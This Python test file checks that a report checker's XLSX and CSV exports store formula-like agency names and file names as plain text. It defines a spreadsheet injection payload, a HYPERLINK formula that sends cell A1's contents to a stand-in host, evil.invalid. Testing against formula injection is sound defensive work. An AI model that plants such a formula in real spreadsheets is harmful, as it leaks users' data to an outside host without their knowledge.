"""The report checker's own exports never carry a live formula: the XLSX of a report whose
agency name looks like a formula, and the batch summary CSV of files with such names."""

from __future__ import annotations

import csv
import io
import random
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from gongkai.cli import main
from gongkai.reports import examples
from gongkai.reports.render import render
from gongkai.reports.tests.conftest import SEED

PAYLOAD = '=HYPERLINK("http://evil.invalid/?x="&A1,"点击")'


def test_report_xlsx_writes_the_agency_as_text() -> None:
    report = replace(examples.generate(random.Random(7), "2021"), agency=PAYLOAD)
    data = render(report, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    title = sheet.cell(row=1, column=1)
    assert title.data_type == "s" and str(title.value).startswith(PAYLOAD)
    numbers = [c.value for row in sheet.iter_rows(min_row=3) for c in row if c.data_type == "n"]
    assert numbers and all(isinstance(n, int | float) for n in numbers if n is not None)


def test_batch_summary_quotes_formula_like_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copy(SEED, tmp_path / "=1+1.txt")
    (tmp_path / "@SUM(A1).txt").write_bytes(b"")
    monkeypatch.chdir(tmp_path)
    main(["check", "."])
    capsys.readouterr()
    text = (tmp_path / "gongkai-check-summary.csv").read_text(encoding="utf-8-sig")
    paths = [row["path"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(paths) == ["'=1+1.txt", "'@SUM(A1).txt"]
